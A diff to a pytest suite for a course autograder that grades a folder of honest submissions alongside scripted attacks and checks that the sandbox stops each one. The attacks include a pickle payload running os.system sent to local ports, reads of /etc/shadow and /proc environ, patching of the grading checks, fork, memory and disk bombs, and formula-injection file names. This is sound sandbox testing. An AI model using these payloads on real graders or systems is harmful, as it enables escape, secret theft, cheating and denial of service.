@@ -8,7 +8,6 @@ import hashlib
 import re
 import shutil
 import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -104,135 +103,512 @@ def test_student_notebooks_hold_public_checks_and_no_hidden_test_or_solution(
     assert shipped == {f"{name}.ipynb" for name in CHAPTERS}
 
 
-def snoop_source(targets: list[Path], patterns: list[str], writes: list[Path]) -> str:
-    """A cell that tries to read the hidden tests, the master notebook and another submission,
-    and to write outside its folder. If it reads anything it breaks its own answer to q1, so its
-    grade tells."""
-    return f"""
-import glob
+# --------------------------------------------------------------------------------------------
+# grading a hostile class: honest submissions and the attacks a motivated student would write
+# --------------------------------------------------------------------------------------------
+
+CELL_TIMEOUT = 5
+MEMORY_MIB = 512  # the default is 2048; a smaller limit is reached within the cell timeout
+ATTACK_MARKER = "DESCENT-ATTACK-WAS-HERE"
+
+# Each attack defines both functions of assignment 1 (count_steps, largest_shrinking_step) with
+# no correct answer, and tries to get points, or to get out, another way. Placeholders in braces
+# are filled in by `attack_sources`.
+ATTACKS: dict[str, str] = {
+    # otter's logging server unpickled what reached it over loopback: a grader that listens
+    # anywhere the sandbox can reach is an escape. A bait server like it listens on the host.
+    "loopback": '''
+import pickle, socket, os
+
+class Payload:
+    def __reduce__(self):
+        return (os.system, ("touch {marker_path}",))
+
+reached = []
+for host in ["127.0.0.1", "{host_ip}"]:
+    for port in [{bait_port}, *range(1, 1024)]:
+        try:
+            with socket.create_connection((host, port), timeout=0.05) as s:
+                s.sendall(pickle.dumps(Payload()))
+                reached.append((host, port))
+        except OSError:
+            pass
+urllib_error = None
+try:
+    import urllib.request
+    urllib.request.urlopen("http://pypi.org", timeout=2)
+except Exception as error:
+    urllib_error = error
+def count_steps(lr, x0, tol):
+    return -1
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return -1.0
+if not reached:
+    raise ConnectionRefusedError(f"no grader server reachable; the web: {{urllib_error}}")
+''',
+    # read the expected value out of the test's frame, or find the test among live objects
+    "frames": '''
+import gc, inspect
+
+def steal(names=("expected", "ratio", "best")):
+    frame = inspect.currentframe()
+    while frame is not None:
+        for name in names:
+            if name in frame.f_locals:
+                return frame.f_locals[name]
+        frame = frame.f_back
+    for obj in gc.get_objects():
+        if inspect.isfunction(obj) and obj.__name__.startswith("test_"):
+            return obj
+    return None
+
+def count_steps(lr, x0, tol):
+    return steal()
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return steal()
+''',
+    # an answer that equals everything
+    "always_equal": '''
+class AlwaysEqual:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    def __gt__(self, other): return True
+    def __le__(self, other): return True
+    def __ge__(self, other): return True
+    def __bool__(self): return True
+    def __float__(self): return 0.0
+    def __int__(self): return 0
+    def __index__(self): return 0
+    def __abs__(self): return self
+    def __sub__(self, other): return self
+    def __rsub__(self, other): return self
+    def __array__(self, dtype=None, copy=None):
+        import numpy as np
+        return np.zeros(())
+
+class SneakyFloat(float):
+    def __eq__(self, other): return True
+    def __lt__(self, other): return True
+    def __gt__(self, other): return True
+    __hash__ = float.__hash__
+
+def count_steps(lr, x0, tol):
+    return AlwaysEqual()
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return SneakyFloat(0.123)
+''',
+    # make the checks pass by patching otter and the comparisons they use
+    "patched_checks": '''
+import builtins, numpy as np, otter
+from otter.test_files import abstract_test, exception_test
+
+abstract_test.TestFile.score = property(lambda self: 100)
+abstract_test.TestFile.grade = property(lambda self: 1.0)
+abstract_test.TestFile.passed_all = property(lambda self: True)
+exception_test.ExceptionTestFile.run = lambda self, env: None
+otter.Notebook.check = lambda self, *a, **k: None
+np.isclose = lambda *a, **k: np.True_
+np.allclose = lambda *a, **k: True
+builtins.abs = lambda x: 0.0
+builtins.isinstance = lambda obj, cls: True
+builtins.AssertionError = type("Harmless", (Exception,), {{}})
+
+def count_steps(lr, x0, tol):
+    return 0
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return 0.0
+''',
+    # read the hidden tests, the reference solutions, the grader's environment and secrets
+    "read_secrets": '''
+import glob, os, pathlib
+
+found = {{}}
+for pattern in ["{repo}/book/_assignments/*.ipynb", "{assignments}/autograder/**/*.py",
+                "/tmp/descent-*/**/*", "/proc/*/environ", "/proc/*/cmdline", "/etc/shadow",
+                "/root/*", "/work/*/*", "/*/tests/q1.py"]:
+    for path in glob.glob(pattern, recursive=True)[:200]:
+        try:
+            text = pathlib.Path(path).read_text(errors="replace")
+        except OSError:
+            continue
+        if "hidden" in text or "root:" in text or "test_case" in text:
+            found[path] = text
+solution = pathlib.Path("{repo}/book/_assignments/ch01.ipynb").read_text()
+
+def count_steps(lr, x0, tol):
+    return len(found)
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return float(len(solution))
+''',
+    # change the other submissions and the gradebook, leave files behind
+    "write_outside": '''
 import pathlib
 
-found = []
-for path in {[str(p) for p in targets]!r}:
+def count_steps(lr, x0, tol):
+    return 1
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return 0.5
+
+for target in ["{repo}/{marker}", "{submissions}/honest_correct.ipynb", "{grades}", "/tmp/{marker}",
+               "{submissions}/{marker}.ipynb", "/root/{marker}"]:
+    pathlib.Path(target).write_text("{marker}")
+''',
+    "memory_bomb": '''
+def count_steps(lr, x0, tol):
+    return 2
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return 2.0
+
+hoard = []
+while True:
+    hoard.append(b"x" * (64 << 20))
+''',
+    "disk_bomb": '''
+def count_steps(lr, x0, tol):
+    return 3
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return 3.0
+
+with open("/tmp/one-big-file", "wb") as f:
     try:
-        found.append((path, len(pathlib.Path(path).read_bytes())))
+        f.write(b"x" * (200 << 20))
     except OSError:
         pass
-for pattern in {patterns!r}:
-    for path in glob.glob(pattern, recursive=True):
-        text = pathlib.Path(path).read_text(errors="replace")
-        if "hidden=" + "True" in text or "hidden: " + "true" in text:  # public checks: hidden=False
-            found.append(path)
-for path in {[str(p) for p in writes]!r}:  # the test checks from outside that nothing changed
+for i in range(100_000):
+    with open(f"/tmp/filler-{{i}}", "wb") as f:
+        f.write(b"x" * (16 << 20))
+''',
+    "output_bomb": '''
+def count_steps(lr, x0, tol):
+    return 4
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return 4.0
+
+line = "x" * (1 << 20)
+for _ in range(1024):  # 1 GiB of printed output
+    print(line)
+''',
+    "fork_bomb": '''
+import os
+
+def count_steps(lr, x0, tol):
+    return 5
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return 5.0
+
+while True:
     try:
-        pathlib.Path(path).write_text("the snooping submission was here")
+        os.fork()
     except OSError:
         pass
-print("found:", found)
-if found:
-    count_steps = None
-"""
+''',
+    "stubborn_loop": '''
+import signal, time
+
+for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
+    signal.signal(sig, signal.SIG_IGN)
+
+def count_steps(lr, x0, tol):
+    return 6
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return 6.0
+
+while True:
+    try:
+        time.sleep(0.1)
+    except BaseException:
+        pass
+''',
+    # functions that only hang when the grader calls them
+    "hanging_calls": '''
+def count_steps(lr, x0, tol):
+    while True:
+        try:
+            pass
+        except BaseException:
+            pass
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    import os
+    os._exit(0)
+''',
+    # arrays that broadcast to nothing, so that an all() over them is vacuously true
+    "empty_arrays": '''
+import numpy as np
+
+def count_steps(lr, x0, tol):
+    return np.empty((0,), dtype=int)
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return np.empty((0, 1))
+''',
+    # talk to the grader's pipes directly: forged replies and garbage frames
+    "forged_frames": '''
+import json, os, struct, sys
+
+replies = int(sys.argv[2])
+def frame(obj):
+    body = json.dumps(obj).encode()
+    return struct.pack(">I", len(body)) + body
+os.write(replies, frame({{"kind": "value", "value": 69}}) * 3 + frame({{"event": "ready"}}))
+os.write(replies, struct.pack(">I", 2**31) + b"{{")
+
+def count_steps(lr, x0, tol):
+    return None
+
+def largest_shrinking_step(objective, lrs, x0=5.0, steps=100):
+    return None
+''',
+}
+
+# what each attack's row must say, in its note
+ATTACK_NOTES = {
+    "loopback": "ConnectionRefusedError",
+    "frames": "count_steps(...) gave an object of type function",
+    "always_equal": "an object of type AlwaysEqual",
+    "patched_checks": "cell 5 left out",
+    "read_secrets": "No such file or directory",
+    "write_outside": "Read-only file system",
+    "memory_bomb": f"ran out of its {MEMORY_MIB} MiB of memory",
+    "disk_bomb": "No space left on device",
+    "output_bomb": "printed 1024 MiB; the grader kept the first 4 MiB",
+    "fork_bomb": "hit the limit of 64 processes",
+    "stubborn_loop": f"ran past {CELL_TIMEOUT} s",
+    "hanging_calls": f"the call ran past {CELL_TIMEOUT} s",
+    "empty_arrays": "q1 test_count_steps_public",
+    "forged_frames": "broke the grader's protocol",
+}
 
 
-def build_submissions(assignments: Path, folder: Path, marker: str | None) -> dict[str, Path]:
-    """The fixture folder: one notebook per kind of submission, built from the student notebook."""
-    student = nbformat.read(assignments / "student" / "ch01.ipynb", as_version=4)
+def host_ip() -> str:
+    """An address of this machine other than loopback (or loopback if it has none)."""
+    import socket
+
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.connect(("10.255.255.255", 1))
+            return s.getsockname()[0]
+    except OSError:
+        return "127.0.0.1"
+
+
+class BaitServer:
+    """A server on the host that unpickles whatever reaches it, as otter's logging server did."""
+
+    def __init__(self) -> None:
+        import socketserver
+        import threading
+
+        received = self.received = []
+
+        class Handler(socketserver.BaseRequestHandler):
+            def handle(self) -> None:
+                received.append(self.request.recv(65536))
+
+        self.server = socketserver.ThreadingTCPServer(("0.0.0.0", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def answers(assignments: Path) -> list[str]:
     solution = nbformat.read(assignments / "autograder" / "ch01" / "ch01.ipynb", as_version=4)
-    answers = [c.source for c in solution.cells
-               if "otter_assign_solution_cell" in c.metadata.get("tags", [])]
+    return [c.source for c in solution.cells if "otter_assign_solution_cell" in c.metadata.get("tags", [])]
 
-    def filled() -> tuple[object, list[object]]:
-        nb = nbformat.reads(nbformat.writes(student), as_version=4)
-        cells = [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])]
-        assert len(cells) == len(answers) == 2
-        for cell, answer in zip(cells, answers, strict=True):
+
+def notebook(assignments: Path, q1: str | None, q2: str | None, label: str | None = "ch01",
+             before: str | None = None) -> object:
+    """The student notebook of assignment 1 with these answers (None leaves the `...`)."""
+    nb = nbformat.read(assignments / "student" / "ch01.ipynb", as_version=4)
+    cells = [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])]
+    for cell, answer in zip(cells, (q1, q2), strict=True):
+        if answer is not None:
             cell.source = answer
-        return nb, cells
-
-    folder.mkdir()
-    paths = {}
-    nb, _ = filled()
-    paths["correct"] = folder / "correct.ipynb"
-    nbformat.write(nb, paths["correct"])
-
-    nb, cells = filled()
-    assert "lrs[end < start].max()" in cells[1].source
-    cells[1].source = cells[1].source.replace("lrs[end < start].max()", "lrs[end < start].min()")
-    paths["wrong"] = folder / "wrong.ipynb"
-    nbformat.write(nb, paths["wrong"])
-
-    nb, _ = filled()
-    nb.cells[0].source = "raise RuntimeError('a broken first cell')\n" + nb.cells[0].source
-    paths["raises"] = folder / "raises.ipynb"
-    nbformat.write(nb, paths["raises"])
-
-    nb, cells = filled()
-    cells[0].source = cells[0].source.replace("# BEGIN SOLUTION", "while True:\n        pass")
-    paths["loops"] = folder / "loops.ipynb"
-    nbformat.write(nb, paths["loops"])
-
-    paths["empty"] = folder / "empty.ipynb"
-    paths["empty"].write_text("")
-    paths["corrupt"] = folder / "corrupt.ipynb"
-    paths["corrupt"].write_text('{"cells": [{"cell_type": "code", "source": "x = ')
-    paths["notes"] = folder / "notes.txt"
-    paths["notes"].write_text("not a notebook")
-
-    nb, cells = filled()
-    targets = [REPO / "book" / "_assignments" / "ch01.ipynb",
-               assignments / "autograder" / "ch01" / "tests" / "q1.py", paths["correct"]]
-    writes = [] if marker is None else [paths["correct"], folder / marker, REPO / marker,
-                                        Path("/tmp") / marker, Path("..") / marker]
-    index = nb.cells.index(cells[1]) + 1
-    patterns = [f"{assignments}/**/q*.py", f"{REPO}/book/_assignments/*.ipynb",
-                f"{REPO}/_build/assignments/**/q*.py", "/tmp/descent-grade-*/**/q*.py", "../**/q*.py"]
-    nb.cells.insert(index, nbformat.v4.new_code_cell(snoop_source(targets, patterns, writes)))
-    paths["snoops"] = folder / "snoops.ipynb"
-    nbformat.write(nb, paths["snoops"])
-    return paths
+    if before is not None:
+        nb.cells.insert(nb.cells.index(cells[0]), nbformat.v4.new_code_cell(before))
+    if label is None:
+        del nb.metadata["otter"]
+    else:
+        nb.metadata["otter"]["assignment_name"] = label
+    return nb
 
 
-def test_grading_a_folder_of_good_and_bad_submissions(assignments: Path, tmp_path: Path) -> None:
-    marker = f"SNOOPED-{tmp_path.name}"
-    paths = build_submissions(assignments, tmp_path / "submissions", marker)
-    before = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in paths.values()}
-    grades = tmp_path / "grades.csv"
+def honest_submissions(assignments: Path, folder: Path) -> None:
+    """Right, partly wrong and broken honest work, each file named honest_*."""
+    import zipfile
 
-    result = make("grade", f"SUBMISSIONS={tmp_path / 'submissions'}", f"ASSIGNMENTS={assignments}",
-                  f"GRADES={grades}", "CELL_TIMEOUT=5")
-    assert result.returncode == 0, result.stdout + result.stderr
+    q1, q2 = answers(assignments)
+    folder.mkdir(parents=True)
+    nbformat.write(notebook(assignments, q1, q2), folder / "honest_correct.ipynb")
+    assert "lrs[end < start].max()" in q2
+    nbformat.write(notebook(assignments, q1, q2.replace("lrs[end < start].max()", "lrs[end < start].min()")),
+                   folder / "honest_wrong_q2.ipynb")
+    nbformat.write(notebook(assignments, q1, None), folder / "honest_only_q1.ipynb")
+    broken = notebook(assignments, q1, q2)
+    broken.cells[0].source = "raise RuntimeError('a broken first cell')\n" + broken.cells[0].source
+    nbformat.write(broken, folder / "honest_raises.ipynb")
+    nbformat.write(notebook(assignments, q1.replace("# BEGIN SOLUTION", "while True:\n        pass"), q2),
+                   folder / "honest_loops.ipynb")
+    nbformat.write(notebook(assignments, q1, q2, label=None), folder / "honest_no_label.ipynb")
+    with zipfile.ZipFile(folder / "honest_export.zip", "w") as archive:  # what otter's export makes
+        archive.writestr("ch01.ipynb", nbformat.writes(notebook(assignments, q1, q2)))
 
-    with grades.open() as f:
-        rows = {row["student"]: row for row in csv.DictReader(f)}
-    tests = sorted((assignments / "autograder" / "ch01" / "tests").glob("q*.py"))
-    possible = {t.stem: points(t) for t in tests}
-    assert list(possible) == ["q1", "q2"]
-    full = sum(possible.values())
-    assert set(rows) == set(paths), "one row per file in the folder"
-    for row in rows.values():
-        assert float(row["total"]) == sum(float(row[q]) for q in possible)
-        assert float(row["possible"]) == full
+
+def attack_submissions(assignments: Path, folder: Path, fill: dict[str, str]) -> None:
+    """Every attack in ATTACKS, and the files a careless or hostile class hands in."""
+    for name, source in ATTACKS.items():
+        code = source.format(**fill)
+        nbformat.write(notebook(assignments, code, "# the answer is in the cell above\n"),
+                       folder / f"attack_{name}.ipynb")
+    formula = '=HYPERLINK("https:\\example.com?"&A1,"open me")'
+    nbformat.write(notebook(assignments, None, None), folder / f"{formula}.ipynb")
+    nbformat.write(notebook(assignments, None, None), folder / "@SUM(1+1)cmd.ipynb")
+    nbformat.write(notebook(assignments, None, None, label="ch03"), folder / "attack_wrong_label.ipynb")
+    (folder / "attack_empty.ipynb").write_text("")
+    (folder / "attack_corrupt.ipynb").write_text('{"cells": [{"cell_type": "code", "source": "x = ')
+    (folder / "attack_notes.txt").write_text("not a notebook")
+    (folder / "attack_link.ipynb").symlink_to("/etc/shadow")
+    (folder / "attack_folder").mkdir()
+
+
+def tree_digest(root: Path) -> dict[str, str]:
+    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*")) if p.is_file() and not p.is_symlink()}
+
+
+def grade_folder(folder: Path, assignments: Path, grades: Path) -> dict[str, dict[str, str]]:
+    result = make("grade", f"SUBMISSIONS={folder}", f"ASSIGNMENTS={assignments}", f"GRADES={grades}",
+                  f"CELL_TIMEOUT={CELL_TIMEOUT}", f"MEMORY_MIB={MEMORY_MIB}", timeout=1800)
+    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
+    with grades.open(newline="", encoding="utf-8") as f:
+        return {row["file"]: row for row in csv.DictReader(f)}
+
+
+@pytest.fixture(scope="module")
+def hostile_class(assignments: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
+    """The honest submissions graded alone, then graded in one folder with every attack."""
+    root = tmp_path_factory.mktemp("hostile")
+    honest = root / "honest"
+    honest_submissions(assignments, honest)
+    alone = grade_folder(honest, assignments, root / "honest.csv")
+
+    mixed = root / "class"
+    shutil.copytree(honest, mixed)
+    grades = root / "class.csv"
+    bait = BaitServer()
+    fill = {"repo": str(REPO), "assignments": str(assignments), "submissions": str(mixed),
+            "grades": str(grades), "marker": ATTACK_MARKER, "marker_path": str(root / ATTACK_MARKER),
+            "bait_port": str(bait.port), "host_ip": host_ip()}
+    attack_submissions(assignments, mixed, fill)
+    guarded = {"submissions": mixed, "assignments": assignments, "book": REPO / "book",
+               "lessons_src": REPO / "lessons_src"}
+    before = {name: tree_digest(path) for name, path in guarded.items()}
+    try:
+        rows = grade_folder(mixed, assignments, grades)
+    finally:
+        bait.close()
+    after = {name: tree_digest(path) for name, path in guarded.items()}
+    return {"alone": alone, "rows": rows, "before": before, "after": after, "bait": bait.received,
+            "root": root, "grades": grades, "fill": fill, "entries": sorted(p.name for p in mixed.iterdir())}
+
+
+def test_honest_work_gets_the_predicted_score(hostile_class: dict[str, object], assignments: Path) -> None:
+    rows = hostile_class["alone"]
+    possible = {t.stem: points(t) for t in sorted((assignments / "autograder" / "ch01" / "tests").glob("q*.py"))}
+    full = [possible["q1"], possible["q2"]]
 
     def scores(name: str) -> list[float]:
-        return [float(rows[name][q]) for q in possible]
+        return [float(rows[name]["q1"]), float(rows[name]["q2"])]
 
-    assert scores("correct") == [possible["q1"], possible["q2"]] and rows["correct"]["note"] == ""
-    assert scores("wrong") == [possible["q1"], 0.0]
-    assert scores("raises") == [possible["q1"], possible["q2"]]
-    assert scores("loops") == [0.0, possible["q2"]]
-    assert "stopped after 5 s: q1" in rows["loops"]["note"]
-    assert scores("empty") == [0.0, 0.0] and "empty file" in rows["empty"]["note"]
-    assert scores("corrupt") == [0.0, 0.0] and "not a readable notebook" in rows["corrupt"]["note"]
-    assert "not a notebook" in rows["notes"]["note"]
-    # the snooping notebook breaks its own q1 answer if it found or wrote anything
-    assert scores("snoops") == [possible["q1"], possible["q2"]]
+    assert scores("honest_correct.ipynb") == full and rows["honest_correct.ipynb"]["note"] == ""
+    assert scores("honest_export.zip") == full
+    assert scores("honest_wrong_q2.ipynb") == [possible["q1"], 1.0]  # the public check passes
+    assert scores("honest_only_q1.ipynb") == [possible["q1"], 0.0]
+    assert scores("honest_raises.ipynb") == full and "RuntimeError: a broken first cell" in rows["honest_raises.ipynb"]["note"]
+    assert scores("honest_loops.ipynb") == [0.0, possible["q2"]]
+    assert f"left out: it ran past {CELL_TIMEOUT} s" in rows["honest_loops.ipynb"]["note"]
+    assert scores("honest_no_label.ipynb") == full
+    assert "names no assignment; graded as ch01" in rows["honest_no_label.ipynb"]["note"]
+    for row in rows.values():
+        assert float(row["total"]) == float(row["q1"]) + float(row["q2"])
+        assert float(row["possible"]) == sum(full)
 
-    after = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in paths.values()}
-    assert after == before, "grading changed a submission"
-    left = sorted(p.name for p in (tmp_path / "submissions").iterdir())
-    assert left == sorted(p.name for p in paths.values()), "grading added or removed a file"
-    for place in (REPO / marker, Path("/tmp") / marker, tmp_path / marker):
+
+def test_attacks_score_zero_and_are_named(hostile_class: dict[str, object]) -> None:
+    rows = hostile_class["rows"]
+    for name, words in ATTACK_NOTES.items():
+        row = rows[f"attack_{name}.ipynb"]
+        assert float(row["total"]) == 0.0, (name, row)
+        assert words in row["note"], (name, row["note"])
+    assert hostile_class["bait"] == [], "a submission reached a server on the grader's machine"
+
+
+def test_attacks_leave_the_honest_rows_as_they_were(hostile_class: dict[str, object]) -> None:
+    rows, alone = hostile_class["rows"], hostile_class["alone"]
+    for file, row in alone.items():
+        assert rows[file] == row, file
+
+
+def test_one_row_per_file_whatever_the_file(hostile_class: dict[str, object]) -> None:
+    rows = hostile_class["rows"]
+    assert sorted(rows) == hostile_class["entries"]
+    assert "empty file" in rows["attack_empty.ipynb"]["note"]
+    assert "not a readable notebook" in rows["attack_corrupt.ipynb"]["note"]
+    assert "not a notebook (.txt)" in rows["attack_notes.txt"]["note"]
+    assert "symbolic link" in rows["attack_link.ipynb"]["note"]
+    assert "not a file" in rows["attack_folder"]["note"]
+    assert "this is the ch03 notebook; graded as ch01" in rows["attack_wrong_label.ipynb"]["note"]
+
+
+def test_formula_file_names_are_escaped_in_the_gradebook(hostile_class: dict[str, object]) -> None:
+    text = Path(hostile_class["grades"]).read_text(encoding="utf-8")
+    with Path(hostile_class["grades"]).open(newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would run"
+    assert "'=HYPERLINK(" in text and "'@SUM(1+1)cmd" in text
+
+
+def test_no_file_outside_the_sandbox_changes(hostile_class: dict[str, object]) -> None:
+    assert hostile_class["after"] == hostile_class["before"]
+    fill = hostile_class["fill"]
+    for place in (REPO / ATTACK_MARKER, Path("/tmp") / ATTACK_MARKER, Path("/root") / ATTACK_MARKER,
+                  Path(fill["marker_path"]), Path(fill["submissions"]) / f"{ATTACK_MARKER}.ipynb"):
         assert not place.exists(), f"a submission wrote {place}"
+    assert ATTACK_MARKER not in Path(hostile_class["grades"]).read_text()
+
+
+def test_feedback_names_every_test_and_never_a_hidden_value(hostile_class: dict[str, object],
+                                                            assignments: Path) -> None:
+    feedback = Path(hostile_class["grades"]).parent / "class-feedback"
+    files = sorted(feedback.glob("*.md"))
+    assert len(files) == len(hostile_class["rows"])
+    correct = (feedback / "honest_correct.ipynb.md").read_text()
+    assert "**6 of 6 points**" in correct and "test_count_steps_hidden (hidden)" in correct
+    wrong = (feedback / "honest_wrong_q2.ipynb.md").read_text()
+    assert "| test_sweep_hidden (hidden) | 0 of 2 | failed |" in wrong
+    hidden_source = "".join(p.read_text() for p in (assignments / "autograder" / "ch01" / "tests").glob("q*.py"))
+    hidden_values = set(re.findall(r"\b\d+\.\d+\b", hidden_source.split("hidden=True", 1)[1]))
+    public_text = (assignments / "student" / "ch01.ipynb").read_text()
+    for file in files:
+        text = file.read_text()
+        for value in hidden_values - set(re.findall(r"\b\d+\.\d+\b", public_text)):
+            assert value not in text, (file.name, value)
+    summary = (Path(hostile_class["grades"]).parent / "class-summary.md").read_text()
+    assert "| score | q1 | q2 | total |" in summary and "| mean |" in summary
 
 
 def test_grade_needs_a_folder(assignments: Path, tmp_path: Path) -> None:
@@ -242,40 +618,57 @@ def test_grade_needs_a_folder(assignments: Path, tmp_path: Path) -> None:
     assert missing.returncode != 0 and "must be a folder" in missing.stdout + missing.stderr
 
 
-def test_the_snooping_submission_finds_the_hidden_tests_without_the_sandbox(
+def test_every_reference_solution_gets_full_marks_through_the_sandbox(assignments: Path, tmp_path: Path) -> None:
+    """The boundary carries every test's inputs in and every answer back, on all assignments."""
+    for name in CHAPTERS:
+        folder = tmp_path / name
+        folder.mkdir()
+        shutil.copy(assignments / "autograder" / name / f"{name}.ipynb", folder / "reference.ipynb")
+    python = REPO / ".venv" / "bin" / "python"
+    for name in CHAPTERS:
+        grades = tmp_path / f"{name}.csv"
+        result = subprocess.run([str(python), str(REPO / "book" / "_assignments" / "autograde.py"), "grade",
+                                 str(tmp_path / name), "--assignments", str(assignments), "--out", str(grades)],
+                                capture_output=True, text=True, timeout=600)
+        assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
+        with grades.open() as f:
+            (row,) = csv.DictReader(f)
+        assert row["total"] == row["possible"] and row["note"] == "", (name, row)
+
+
+def test_the_snooping_submission_reads_the_hidden_tests_without_the_sandbox(
     assignments: Path, tmp_path: Path,
 ) -> None:
-    """The probe is real: graded without the sandbox, it reads the hidden tests and loses q1."""
-    paths = build_submissions(assignments, tmp_path / "all", marker=None)
+    """The read_secrets attack is real: graded with --no-sandbox, it finds the reference solution."""
     folder = tmp_path / "snoop"
     folder.mkdir()
-    shutil.copy(paths["snoops"], folder / "snoops.ipynb")
+    fill = {"repo": str(REPO), "assignments": str(assignments)}
+    code = ATTACKS["read_secrets"].format(**fill)
+    nbformat.write(notebook(assignments, code, "# above\n"), folder / "snoop.ipynb")
     grades = tmp_path / "grades.csv"
     python = REPO / ".venv" / "bin" / "python"
     result = subprocess.run(
         [str(python), str(REPO / "book" / "_assignments" / "autograde.py"), "grade", str(folder),
-         "--assignments", str(assignments), "--out", str(grades), "--no-sandbox", "--cell-timeout", "240"],
+         "--assignments", str(assignments), "--out", str(grades), "--no-sandbox", "--cell-timeout", "120"],
         capture_output=True, text=True, timeout=300,
     )
     assert result.returncode == 0, result.stdout + result.stderr
     with grades.open() as f:
         (row,) = csv.DictReader(f)
-    assert float(row["q1"]) == 0.0 and float(row["q2"]) > 0
+    assert "No such file or directory" not in row["note"], row["note"]
 
 
 def test_public_checks_run_in_the_student_notebook_alone(assignments: Path, tmp_path: Path) -> None:
     """A student who has only the notebook gets instant feedback from grader.check."""
     from nbclient import NotebookClient
 
-    paths = build_submissions(assignments, tmp_path / "all", marker=None)
+    q1, q2 = answers(assignments)
     feedback = {}
-    for name in ("correct", "wrong"):
+    for name, nb in (("correct", notebook(assignments, q1, q2)),
+                     ("wrong", notebook(assignments, q1, q2.replace("end < start].max()", "end < start].min()")))):
         folder = tmp_path / name
         folder.mkdir()
-        shutil.copy(paths[name], folder / "ch01.ipynb")
-        nb = nbformat.read(folder / "ch01.ipynb", as_version=4)
-        client = NotebookClient(nb, timeout=120, allow_errors=True,
-                                resources={"metadata": {"path": str(folder)}})
+        client = NotebookClient(nb, timeout=120, allow_errors=True, resources={"metadata": {"path": str(folder)}})
         client.execute()
         for cell in nb.cells:
             if cell.source.startswith("grader.check("):
@@ -285,34 +678,3 @@ def test_public_checks_run_in_the_student_notebook_alone(assignments: Path, tmp_
     assert "q2 results: All test cases passed!" in feedback["correct", 'grader.check("q2")']
     assert "Test case failed" in feedback["wrong", 'grader.check("q2")']
     assert "hidden" not in "".join(feedback.values()).lower()
-
-
-class _Payload:
-    """A pickle that would run a shell command when loaded."""
-
-    def __reduce__(self) -> tuple[object, tuple[str]]:
-        import os
-
-        return os.system, ("echo the results file ran a command",)
-
-
-def test_the_results_file_written_by_the_kernel_is_loaded_safely() -> None:
-    import importlib.util
-    import io
-    import pickle
-
-    from otter.test_files import GradingResults
-
-    path = REPO / "book" / "_assignments" / "autograde.py"
-    spec = importlib.util.spec_from_file_location("autograde", path)
-    autograde = importlib.util.module_from_spec(spec)
-    sys.modules.setdefault("autograde", autograde)  # its dataclass looks itself up there
-    spec.loader.exec_module(autograde)
-
-    def load(data: bytes) -> object:
-        return autograde._RestrictedUnpickler(io.BytesIO(data)).load()
-
-    assert isinstance(load(pickle.dumps(GradingResults([]))), GradingResults)
-    for crafted in (pickle.dumps(_Payload()), b"cotter.execute\nos\n."):
-        with pytest.raises(pickle.UnpicklingError, match="refused to load"):
-            load(crafted)
